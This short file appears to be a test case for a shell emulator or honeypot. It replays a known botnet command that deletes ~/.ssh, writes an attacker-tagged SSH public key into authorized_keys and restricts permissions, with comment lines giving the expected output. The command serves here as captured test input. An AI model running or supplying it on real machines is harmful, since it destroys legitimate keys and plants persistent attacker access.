# on: all
# want: drwx------
# want: -rw-------
# want: mdrfckr
cd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 mdrfckr' >> .ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
ls -ld .ssh; ls -l .ssh/authorized_keys; cat .ssh/authorized_keys
